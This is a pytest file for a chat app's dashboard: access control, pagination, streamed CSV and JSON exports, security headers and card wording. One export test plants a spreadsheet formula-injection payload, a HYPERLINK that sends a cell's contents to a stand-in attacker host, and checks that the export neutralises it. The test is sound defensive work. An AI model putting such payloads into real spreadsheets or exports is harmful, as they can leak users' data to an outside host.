"""Dashboard pages, JSON API and exports: owner-only, paginated, and the exports carry every record."""

from __future__ import annotations

import csv
import io
import json

import pytest
from asgiref.sync import async_to_sync, sync_to_async
from django.core.management import call_command
from django.utils import timezone

from chatapp.chat.conversation_export import ExportGoneError
from chatapp.chat.models import Conversation, Message, OptimizationRecord
from chatapp.dashboard.export import dashboard_record_chunks
from tests.dashboard.factories import make_conversation, make_record
from tests.support.streaming import streamed_body

pytestmark = pytest.mark.django_db


def api(pk: int, suffix: str = "") -> str:
    return f"/api/dashboard/conversations/{pk}/{suffix}"


def all_urls(pk: int, record_pk: int) -> list[str]:
    return [
        f"/c/{pk}/dashboard/",
        f"/c/{pk}/dashboard/export.csv",
        f"/c/{pk}/dashboard/export.json",
        api(pk),
        api(pk, "series/"),
        api(pk, "map/"),
        api(pk, "records/"),
        api(pk, f"records/{record_pk}/"),
        api(pk, "summaries/"),
    ]


def test_page_renders_cards_for_the_owner(owner_client, small):
    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/")
    assert response.status_code == 200
    html = response.content.decode()
    assert "Tokens not sent" in html and "dropped with no summary" in html
    assert 'data-card="tokens"' in html
    assert ">450<" in html  # tokens saved, shown in full below 10k
    assert "50% of 900 full-history tokens" in html
    assert 'id="message-map"' in html
    assert f'href="/c/{small.conversation.pk}/dashboard/export.csv"' in html


def test_every_url_answers_the_owner(owner_client, small):
    for url in all_urls(small.conversation.pk, small.records[0].pk):
        assert owner_client.get(url).status_code == 200, url


def test_other_users_get_404_everywhere(client, small, other_user):
    client.force_login(other_user)
    for url in all_urls(small.conversation.pk, small.records[0].pk):
        assert client.get(url).status_code == 404, url


def test_record_of_another_conversation_is_404(owner_client, small, user):
    mine = make_conversation(owner=user, title="Mine too")
    assert owner_client.get(api(mine.pk, f"records/{small.records[0].pk}/")).status_code == 404


def test_anonymous_is_sent_to_login_or_refused(client, small):
    response = client.get(f"/c/{small.conversation.pk}/dashboard/")
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]
    assert client.get(f"/c/{small.conversation.pk}/dashboard/export.csv").status_code == 302
    assert client.get(api(small.conversation.pk)).status_code in (401, 403)
    assert client.get("/api/dashboard/overview/").status_code in (401, 403)


def test_headline_api_matches_selectors(owner_client, small):
    data = owner_client.get(api(small.conversation.pk)).json()
    assert data["tokens"]["saved"] == 450
    assert data["money"]["net_saved_usd"] == pytest.approx(0.004)


def test_records_are_paginated_in_turn_order(owner_client, small):
    first = owner_client.get(api(small.conversation.pk, "records/?limit=2")).json()
    assert first["count"] == 3
    assert [r["turn"] for r in first["results"]] == [1, 2]
    assert [r["id"] for r in first["results"]] == [small.records[0].pk, small.records[1].pk]
    assert first["results"][1]["tokens_saved"] == 150
    assert first["next"] is not None
    assert "sent" not in first["results"][0]  # the heavy JSON stays out of list pages
    second = owner_client.get(api(small.conversation.pk, "records/?limit=2&offset=2")).json()
    assert [r["turn"] for r in second["results"]] == [3]
    assert second["next"] is None


@pytest.mark.parametrize(("query", "field"), [
    ("first=abc", "first"), ("last=1.5", "last"), ("first=0", "first"), ("last=-1", "last"), ("first=3&last=2", "last"),
])
def test_a_bad_series_range_is_refused_naming_the_field(owner_client, small, query, field):
    """A range that is not one was read as the default (the whole series, or turn 1 alone): a client
    with a typo got a chart of other turns than it asked for, and no word of it (the lists refuse a
    bad limit or offset the same way)."""
    response = owner_client.get(api(small.conversation.pk, f"series/?{query}"))
    assert response.status_code == 400
    assert set(response.json()) - {"detail"} == {field}


def test_a_series_range_past_the_last_turn_is_cut_to_it(owner_client, small):
    data = owner_client.get(api(small.conversation.pk, "series/?first=2&last=99")).json()
    assert (data["first_turn"], data["last_turn"]) == (2, 3)


def test_summaries_are_paginated(owner_client, small):
    data = owner_client.get(api(small.conversation.pk, "summaries/?limit=1")).json()
    assert data["count"] == 1
    assert data["results"][0]["id"] == small.summary.pk
    assert data["results"][0]["duration_s"] == pytest.approx(3.0)


@pytest.mark.parametrize("extension", ["csv", "json"])
def test_the_records_download_is_named_after_its_chat(owner_client, small, extension):
    # As the chat's own download (Trip to Lisbon.md): a folder of downloads is read by name, and
    # "conversation-412-records.csv" said nothing of which chat's records it held.
    Conversation.objects.filter(pk=small.conversation.pk).update(title="Trip: Lisbon / Porto")
    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{extension}")
    assert response["Content-Disposition"] == f'attachment; filename="Trip Lisbon Porto records.{extension}"'
    # Past 100 characters of title " records" was cut off: the file bore the chat export's name.
    Conversation.objects.filter(pk=small.conversation.pk).update(title="x" * 200)  # the longest a title is stored
    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{extension}")
    assert response["Content-Disposition"] == f'attachment; filename="{"x" * 100} records.{extension}"'


@pytest.mark.parametrize("extension", ["csv", "json"])
def test_the_records_download_is_not_cached_nor_buffered(owner_client, small, extension):
    # The records are private (a shared or browser cache must not keep them) and streamed (nginx must
    # pass each page on, not gather the file): they lacked both headers the chat's own export carries.
    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{extension}")
    assert response["Cache-Control"] == "no-store"
    assert response["X-Accel-Buffering"] == "no"


def test_csv_export(owner_client, small):
    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv")
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    text = streamed_body(response).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert [int(r["turn"]) for r in rows] == [1, 2, 3]
    assert [int(r["id"]) for r in rows] == [r.pk for r in small.records]
    last = rows[2]
    assert last["strategy"] == "summarize"
    assert int(last["tokens_saved"]) == 300
    assert int(last["provider_prompt_tokens"]) == 198
    assert float(last["cost_full_usd"]) == pytest.approx(0.005)
    assert json.loads(last["sent"]) == small.records[2].sent
    assert json.loads(last["dropped_ranges"]) == [[small.m[4].pk, small.m[4].pk]]
    assert rows[0]["provider_prompt_tokens"] == ""


def test_the_csv_download_starts_with_a_bom_and_the_json_one_does_not(owner_client, small):
    # Excel reads a CSV without a BOM in the local code page: a title or reason in Cyrillic or Chinese
    # came out garbled. The BOM tells it UTF-8; JSON readers want none.
    Conversation.objects.filter(pk=small.conversation.pk).update(title="Поездка 旅行")
    csv_bytes = streamed_body(owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv"))
    assert csv_bytes.startswith(b"\xef\xbb\xbf") and not csv_bytes.startswith(b"\xef\xbb\xbf" * 2)
    assert next(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig"))))[0] == "turn"
    json_bytes = streamed_body(owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.json"))
    assert json_bytes.startswith(b"{")


def test_csv_export_never_writes_a_formula(owner_client, small):
    """Issue 11, finding 9: a model name or reason that starts like a formula stays text."""
    small.records[0].__class__.objects.filter(pk=small.records[0].pk).update(
        model='=HYPERLINK("https://evil.example/?x="&A1,"click")', reason="+1 then -2 @here")
    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.csv")
    rows = list(csv.DictReader(io.StringIO(streamed_body(response).decode("utf-8-sig"))))
    assert rows[0]["model"] == """'=HYPERLINK("https://evil.example/?x="&A1,"click")"""
    assert rows[0]["reason"] == "'+1 then -2 @here"
    assert int(rows[1]["tokens_saved"]) >= 0  # numbers stay numbers


def test_json_export(owner_client, small):
    response = owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.json")
    assert response["Content-Type"] == "application/json"
    data = json.loads(streamed_body(response))
    assert data["conversation"] == {"id": small.conversation.pk, "title": "Small one"}
    records = data["records"]
    assert [r["turn"] for r in records] == [1, 2, 3]
    assert records[2]["sent"] == small.records[2].sent
    assert records[2]["summary_id"] == small.summary.pk
    assert records[1]["tokens_saved"] == 150
    assert records[0]["stats"] == {"trigger_tokens": 700}


def test_exports_stream_from_async_iterators_page_by_page(owner_client, small):
    """Under ASGI only an async iterator is streamed (a sync one is read whole first); pages keep the
    turn numbers and order across their boundaries."""
    for suffix in ("csv", "json"):
        assert owner_client.get(f"/c/{small.conversation.pk}/dashboard/export.{suffix}").is_async

    async def pages() -> list[list[tuple[int, int]]]:
        return [[(row.turn, row.data["id"]) for row in page]
                async for page in dashboard_record_chunks(conversation=small.conversation, chunk_size=2)]

    assert async_to_sync(pages)() == [[(1, small.records[0].pk), (2, small.records[1].pk)],
                                      [(3, small.records[2].pk)]]


def test_a_conversation_deleted_while_its_records_download_fails_the_download(small):
    """Deleted in another tab while its records downloaded: the CSV or JSON ended as a whole file of the
    pages read before the deletion. The download fails instead."""
    async def pages_while_the_chat_is_deleted() -> None:
        chunks = dashboard_record_chunks(conversation=small.conversation, chunk_size=2)
        await anext(chunks)
        await sync_to_async(Conversation.objects.filter(pk=small.conversation.pk).delete)()
        async for _ in chunks:
            pass

    with pytest.raises(ExportGoneError):
        async_to_sync(pages_while_the_chat_is_deleted)()


def test_json_export_of_an_empty_conversation(owner_client, user):
    c = make_conversation(owner=user)
    data = json.loads(streamed_body(owner_client.get(f"/c/{c.pk}/dashboard/export.json")))
    assert data["records"] == []


def test_overview_page_and_api_show_only_own_conversations(owner_client, small, other_user):
    theirs = make_conversation(owner=other_user, title="Someone else's chat")
    make_record(conversation=theirs, tokens_full=10_000, tokens_sent=100)
    html = owner_client.get("/dashboard/").content.decode()
    assert "Small one" in html
    assert "Someone else" not in html
    data = owner_client.get("/api/dashboard/overview/").json()
    assert data["tokens"]["saved"] == 450
    listing = owner_client.get("/api/dashboard/conversations/?limit=10").json()
    assert [row["id"] for row in listing["results"]] == [small.conversation.pk]


def test_empty_conversation_page(owner_client, user):
    c = make_conversation(owner=user)
    response = owner_client.get(f"/c/{c.pk}/dashboard/")
    assert response.status_code == 200
    assert "No requests yet" in response.content.decode()


def test_map_of_a_seeded_conversation_is_run_length_encoded(owner_client, user):
    call_command("seed_long_conversation", "--username", user.username, "--messages", "600", "--seed", "11")
    conversation = user.conversations.get()
    response = owner_client.get(api(conversation.pk, "map/"))
    data = response.json()
    total = Message.objects.filter(conversation=conversation).count()
    assert data["count"] == total
    assert sum(length for _, length in data["status_runs"]) == total
    assert sum(length for _, length in data["id_runs"]) == total
    assert len(data["roles"]) == total
    # A handful of runs, not a row per message.
    assert len(data["status_runs"]) < total / 5
    assert len(response.content) < total * 4
    series = owner_client.get(api(conversation.pk, "series/")).json()
    assert series["count"] == OptimizationRecord.objects.filter(conversation=conversation).count() == 300


@pytest.mark.parametrize("path", ["/c/{pk}/dashboard/", "/dashboard/"])
def test_dashboard_pages_send_the_page_csp(owner_client, small, path):
    policy = owner_client.get(path.format(pk=small.conversation.pk))["Content-Security-Policy"]
    directives = dict(d.strip().split(" ", 1) for d in policy.split(";"))
    assert directives["script-src"] == "'self'"
    assert directives["img-src"] == "'self' data:"
    assert directives["object-src"] == "'none'"


def test_counting_accuracy_is_bounded_and_says_what_it_measures(owner_client, user):
    """A provider that counts very differently gives "—", never a negative accuracy (issue 14, finding 10)."""
    conversation = make_conversation(owner=user)
    make_record(conversation=conversation, tokens_full=900, tokens_sent=900, provider=40)
    html = owner_client.get(f"/c/{conversation.pk}/dashboard/").content.decode()
    card = html.split('data-card="accuracy"', 1)[1].split("</section>", 1)[0]
    assert "%" not in card.split("per request", 1)[0].replace("Counting accuracy", "")  # the value is "—"
    assert "per request, ours differs from the provider&#x27;s count by 2150.0% on average" in card
    assert "counts differently" in card


def test_cards_say_one_request_turn_or_job_in_the_singular(owner_client, user):
    from tests.dashboard.factories import make_job

    c = make_conversation(owner=user, title="Just one")
    # a model the price registry does not know (a local one): the request is unpriced
    make_record(conversation=c, tokens_full=100, tokens_sent=100, model="local-llama-walk", provider=98)
    make_job(conversation=c, summary=None, cost=None)
    page = owner_client.get(f"/c/{c.pk}/dashboard/").content.decode()
    assert "1 turn unpriced" in page and "over 1 request<" in page.replace("\n", "").replace("  ", "")
    assert "1 turns" not in page and "1 requests" not in page
    overview = owner_client.get("/dashboard/").content.decode()
    assert "1 summary job<" in overview.replace("\n", "").replace("  ", "")
    assert "1 summary jobs" not in overview


def test_exports_mark_the_turns_of_another_branch_as_the_page_does(owner_client, user):
    """The turn list marks a turn whose reply an edit or a regenerate took off the active path ("other
    branch"); the CSV and JSON of the same records did not say which turns those were."""
    c = make_conversation(owner=user)
    old = Message.objects.create(conversation=c, role="assistant", content="old", token_count=1, char_count=3,
                                 superseded=True)
    new = Message.objects.create(conversation=c, role="assistant", content="new", token_count=1, char_count=3)
    make_record(conversation=c, tokens_full=100, tokens_sent=100, reply=old)
    make_record(conversation=c, tokens_full=100, tokens_sent=100, reply=new)
    make_record(conversation=c, tokens_full=120, tokens_sent=120)  # its reply not written yet
    page = [r["on_active_path"] for r in owner_client.get(api(c.pk, "records/")).json()["results"]]
    assert page == [False, True, True]
    csv_text = streamed_body(owner_client.get(f"/c/{c.pk}/dashboard/export.csv")).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(csv_text)))
    assert [r["on_active_path"] for r in rows] == ["False", "True", "True"]
    data = json.loads(streamed_body(owner_client.get(f"/c/{c.pk}/dashboard/export.json")))
    assert [r["on_active_path"] for r in data["records"]] == page


def test_an_archived_chat_in_the_overview_is_marked_archived(owner_client, small):
    # Archived chats are out of the sidebar: their row in the savings list says why it is not there.
    Conversation.objects.filter(pk=small.conversation.pk).update(archived_at=timezone.now())

    [row] = owner_client.get("/api/dashboard/overview/").json()["top"]
    html = owner_client.get("/dashboard/").content.decode()

    assert row["archived"] is True
    assert 'title="Small one">Small one</a> <span class="dash-tag">Archived</span>' in html
    Conversation.objects.filter(pk=small.conversation.pk).update(archived_at=None)
    assert owner_client.get("/api/dashboard/overview/").json()["top"][0]["archived"] is False
    assert "Archived</span>" not in owner_client.get("/dashboard/").content.decode()


def test_a_summary_job_that_failed_is_counted_with_its_reason(owner_client, user):
    """A job that gave up wrote no summary: the dashboard said "Summaries made 0" and nothing else, so
    why the chat went on truncating was told only by a banner on the chat page at the time."""
    from chatapp.chat.models import SummaryJob
    from tests.dashboard.factories import make_job

    c = make_conversation(owner=user, title="Gave up")
    make_record(conversation=c, tokens_full=900, tokens_sent=400, strategy="summarize", triggered=True)
    make_job(conversation=c, summary=None, cost=None, status=SummaryJob.Status.FAILED,
             error="Gave up after 4 attempts (the worker stopped or the model kept failing).")
    page = owner_client.get(f"/c/{c.pk}/dashboard/").content.decode()
    assert "1 summary job failed: Gave up after 4 attempts (the worker stopped or the model kept failing)." in page
    assert owner_client.get(api(c.pk)).json()["summaries"]["latest_failure"] == (
        "Gave up after 4 attempts (the worker stopped or the model kept failing).")


def test_the_cards_of_a_chat_or_an_account_with_no_request_say_so(owner_client, user):
    """With no request the cards read "0% of 0 full-history tokens: 0 replaced by summaries or compressed
    · 0 dropped with no summary" and "— saved - $0 summarizing": figures of nothing, where the usage
    card beside them already said "No request yet"."""
    c = make_conversation(owner=user, title="Nothing sent")
    for page in (f"/c/{c.pk}/dashboard/", "/dashboard/"):
        body = owner_client.get(page).content.decode()
        assert "0% of 0" not in body and "— saved" not in body
        assert body.count("No request yet") >= 2
